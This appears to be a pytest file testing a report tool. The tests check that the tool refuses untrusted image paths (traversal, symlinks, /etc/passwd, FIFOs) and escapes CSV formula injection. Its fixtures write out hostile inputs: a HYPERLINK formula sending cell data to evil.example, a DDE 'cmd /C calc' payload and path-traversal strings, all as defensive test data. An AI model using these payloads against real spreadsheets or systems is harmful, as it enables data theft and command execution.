"""Files are data at `report` (issue 50): one row each, each a real `banana-tests report` process.

A JUnit file may come from an untrusted shard. Its search case names two PNGs (`clean_png`,
`degraded_png`); the report embeds one only when it is a PNG the run wrote where the report may
read it (banana_tests.reports.embedded_images). Every other file is named, once on stderr and once
in the page, and its bytes appear nowhere in the output folder. Every CSV the report writes keeps a
cell that a spreadsheet would run as a formula as text (banana_tests.table_text).
"""

from __future__ import annotations

import ast
import base64
import csv
import os
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from html import escape
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape
from xml.sax.saxutils import quoteattr

import pytest

from banana_tests.reports.embedded_images import MAX_PNG_BYTES
from banana_tests.table_text import csv_cell
from tests.conftest import PROJECT, noisy_image
from tests.test_junit import case, control, junit

LIMIT_S = 120  # a regression that reads a FIFO must fail the row, not hang the run
OUTSIDE = "outside the folders of the JUnit files given and of any score cache"


def report(junit_file: Path, out: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "banana_tests.cli", "report", str(junit_file), f"--out={out}"]
    return subprocess.run(command, capture_output=True, text=True, timeout=LIMIT_S, check=False)


def search_case(clean: str, degraded: str, metric: str = "piqe") -> str:
    """A search case as the suite writes it: an escape, with its PNG pair's paths."""
    props = {
        "banana_record": "search/2",
        "metric": metric,
        "examples": "145",
        "escaped": "true",
        "search_seconds": "41.2",
        "degradation": "crop alpha[0:96, 0:96]; gaussian_noise 0.4",
        "clean_png": clean,
        "degraded_png": degraded,
        "norm_reference": "60.02",
        "norm_step": "61.21",
        "psnr": "16.35",
        "ssim": "0.322",
    }
    body = "".join(f"<property name={quoteattr(k)} value={quoteattr(v)} />" for k, v in props.items())
    head = f'<testcase classname="banana_tests.test_search" name="test_no_worst_escape[{metric}]">'
    failure = "<failure message='Failed: piqe scores a plainly degraded image' />"
    return f"{head}<properties>{body}</properties>{failure}</testcase>"


def png(path: Path, seed: str = "alpha") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    noisy_image(seed, 0, 1).save(path)
    return path


def output_bytes(out: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file())


def leaked(secret: bytes, written: bytes) -> bool:
    """Whether `secret` is in `written`, raw or as base64 at any of its three alignments."""
    encoded = [base64.b64encode(secret[k:])[4:-4] for k in range(3)]  # the edges depend on neighbours
    return secret in written or any(e and e in written for e in encoded)


# Each row: make(tmp) -> (the degraded_png property's value, the bytes that must not leak or None),
# and why the report refuses it. The inputs: tmp/inputs/j.xml, whose clean.png is a good PNG beside it.
Make = Callable[[Path], tuple[str, bytes | None]]


def outside_text(tmp: Path) -> tuple[str, bytes | None]:
    secret = tmp / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_bytes(b"root:x:0:0:TOP-SECRET-9f2c:/root:/bin/bash\n" * 3)
    return str(secret), secret.read_bytes()


def outside_png(tmp: Path) -> tuple[str, bytes | None]:
    private = png(tmp / "outside" / "private.png", "private")
    return str(private), private.read_bytes()


def symlink_in_to_png_out(tmp: Path) -> tuple[str, bytes | None]:
    named, data = outside_png(tmp)
    link = tmp / "inputs" / "pairs" / "link.png"
    link.symlink_to(named)
    return str(link), data


def dotdot_out(tmp: Path) -> tuple[str, bytes | None]:
    _, data = outside_png(tmp)
    return f"{tmp / 'inputs' / 'pairs'}/../../outside/private.png", data


def etc_passwd(tmp: Path) -> tuple[str, bytes | None]:
    if not Path("/etc/passwd").is_file():
        pytest.skip("no /etc/passwd here")
    return "/etc/passwd", Path("/etc/passwd").read_bytes()


def text_inside(tmp: Path) -> tuple[str, bytes | None]:
    notes = tmp / "inputs" / "pairs" / "notes.png"
    notes.write_bytes(b"TOP-SECRET notes, not an image\n" * 4)
    return str(notes), notes.read_bytes()


def fifo_inside(tmp: Path) -> tuple[str, bytes | None]:
    fifo = tmp / "inputs" / "pairs" / "fifo.png"
    os.mkfifo(fifo)
    return str(fifo), None


def sparse_inside(tmp: Path) -> tuple[str, bytes | None]:
    """A PNG signature, then a hole up to one byte over the limit (nothing written, nothing read)."""
    big = tmp / "inputs" / "pairs" / "big.png"
    with big.open("wb") as handle:
        handle.write(b"\x89PNG\r\n\x1a\n")
        handle.truncate(MAX_PNG_BYTES + 1)
    return str(big), None


def missing(tmp: Path) -> tuple[str, bytes | None]:
    return str(tmp / "inputs" / "pairs" / "gone.png"), None


REFUSED: dict[str, tuple[Make, str]] = {
    "/etc/passwd": (etc_passwd, OUTSIDE),
    "a text file outside the inputs": (outside_text, OUTSIDE),
    "a PNG outside the inputs": (outside_png, OUTSIDE),
    "a symlink inside to a PNG outside": (symlink_in_to_png_out, OUTSIDE),
    "a ../ path out of the inputs": (dotdot_out, OUTSIDE),
    "a file inside that is no PNG": (text_inside, "not a PNG (no PNG signature)"),
    "a FIFO inside": (fifo_inside, "not a regular file but a FIFO (named pipe)"),
    "a sparse file inside over the size limit": (
        sparse_inside,
        f"{MAX_PNG_BYTES + 1:,} bytes, over the {MAX_PNG_BYTES:,}-byte limit",
    ),
    "a file that is gone": (missing, "No such file or directory"),
}


@pytest.mark.slow
@pytest.mark.parametrize("make, why", REFUSED.values(), ids=list(REFUSED))
def test_an_image_the_report_may_not_embed_is_named_and_its_bytes_are_nowhere(
    tmp_path: Path, make: Make, why: str
) -> None:
    clean = png(tmp_path / "inputs" / "pairs" / "clean.png")
    named, secret = make(tmp_path)
    given = junit(
        tmp_path / "inputs" / "j.xml",
        case("piqe", "alpha", 5, "<failure message='AssertionError: m' />", record="delta/2", delta="1.0"),
        search_case(str(clean), named),
    )
    out = tmp_path / "out"
    done = report(given, out)
    assert done.returncode == 0, done.stderr
    warned = [line for line in done.stderr.splitlines() if "not embedding" in line]
    assert warned == [f"banana-tests report: not embedding {named} (piqe's search): {why}"]
    page = (out / "report.html").read_text(encoding="utf-8")
    assert f"not shown ({escape(named)}: {escape(why)})" in page
    assert clean.read_bytes() not in output_bytes(out)  # the pair is shown whole or not at all
    assert not leaked(base64.b64encode(clean.read_bytes()), output_bytes(out))
    if secret is not None:
        assert not leaked(secret, output_bytes(out))
    # nothing else lost: the Δ case and the search's row
    assert "piqe,alpha,5,1.0,failed" in (out / "matrix.csv").read_text()
    assert "| piqe | failed | escape | 145 |" in (out / "summary.md").read_text(encoding="utf-8")


def in_inputs(tmp: Path) -> Path:
    return tmp / "inputs" / "pairs"


def in_a_score_cache(tmp: Path) -> Path:
    """The search writes its pairs in the run's score cache, which need not be beside the JUnit file."""
    cache = tmp / "project" / ".banana_cache"
    cache.mkdir(parents=True)
    sqlite3.connect(cache / "scores.sqlite").close()
    return cache / "search" / "pairs" / "piqe"


@pytest.mark.slow
@pytest.mark.parametrize("folder", [in_inputs, in_a_score_cache])
def test_a_png_pair_the_run_wrote_is_embedded(tmp_path: Path, folder: Callable[[Path], Path]) -> None:
    (tmp_path / "inputs").mkdir()
    where = folder(tmp_path)
    clean, degraded = png(where / "clean.png"), png(where / "degraded.png", "beta")
    given = junit(tmp_path / "inputs" / "j.xml", search_case(str(clean), str(degraded)))
    out = tmp_path / "out"
    done = report(given, out)
    assert done.returncode == 0, done.stderr
    assert "not embedding" not in done.stderr
    page = (out / "report.html").read_text(encoding="utf-8")
    for image in (clean, degraded):
        assert base64.b64encode(image.read_bytes()).decode() in page


# CSV injection: cells a spreadsheet would run (OWASP's list), through the JUnit names a report
# writes into matrix.csv and controls.csv. A number stays a number.
SEEDS = {  # seed image's name -> its matrix.csv cell
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\tTAB": "'\tTAB",
    "\rCR": "'\rCR",
    "-3.5": "-3.5",  # a number, as a spreadsheet reads it
    "plain": "plain",
}
MESSAGES = {  # a control case's failure message -> its controls.csv cell
    "gaussian_blur": ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
    "gaussian_noise": ("@SUM(1+1)", "'@SUM(1+1)"),
    "jpeg": ("-1+2 missed", "'-1+2 missed"),
}


def name_attribute(text: str) -> str:
    return xml_escape(text, {'"': "&quot;", "\t": "&#9;", "\r": "&#13;"})


@pytest.mark.slow
def test_no_csv_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    cases = [
        case(
            "piqe", seed, 5, name=name_attribute(f"test_detects_degradation[piqe-{seed}-step5]"), delta="-3.5"
        )
        for seed in SEEDS
    ]
    cases.append(
        case("=cmd|' /C calc'!A0", "plain", 5, name="test_detects_degradation[x-plain-step5]", delta="-0.25")
    )
    cases += [
        control("piqe", distortion, f"<failure message={quoteattr(message)} />")
        for distortion, (message, _) in MESSAGES.items()
    ]
    out = tmp_path / "out"
    done = report(junit(tmp_path / "j.xml", *cases), out)
    assert done.returncode == 0, done.stderr
    with (out / "matrix.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(SEEDS) + 1  # every case, each in a row of its own
    assert {r["seed_image"]: r["delta"] for r in rows if r["metric"] == "piqe"} == {
        cell: "-3.5" for cell in SEEDS.values()
    }
    assert [(r["metric"], r["delta"]) for r in rows if r["metric"] != "piqe"] == [
        ("'=cmd|' /C calc'!A0", "-0.25")
    ]
    with (out / "controls.csv").open(newline="") as f:
        controls = {r["distortion"]: r["message"] for r in csv.DictReader(f)}
    assert controls == {d: cell for d, (_, cell) in MESSAGES.items()}


def test_every_csv_is_written_through_the_one_writer() -> None:
    """csv.writer and csv.DictWriter appear in banana_tests/table_text.py only."""
    found = []
    for path in sorted((PROJECT / "banana_tests").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(path.relative_to(PROJECT).as_posix())
    assert set(found) == {"banana_tests/table_text.py"}


@pytest.mark.parametrize("number", ["-3.5", "-0.0", "-1e-05", "+2", "-inf", "nan", "-.5", "1E+300"])
def test_a_number_is_written_as_it_is(number: str) -> None:
    assert csv_cell(number) == number


@pytest.mark.parametrize("text", ["-", "-1-1", "-3.5x", "+inf()", "-e5", "=1", "@1", "\t1", "\r1", "-1_0"])
def test_text_that_would_start_a_formula_is_quoted(text: str) -> None:
    assert csv_cell(text) == "'" + text
